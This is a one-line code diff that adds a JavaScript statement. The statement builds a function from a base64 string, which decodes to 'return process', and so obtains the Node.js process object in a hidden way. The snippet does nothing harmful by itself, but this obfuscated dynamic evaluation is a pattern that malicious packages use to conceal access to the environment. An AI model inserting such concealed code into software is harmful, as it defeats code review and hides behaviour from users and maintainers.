@@ -1,0 +1,1 @@
+const f = new Function(atob("cmV0dXJuIHByb2Nlc3M="))();
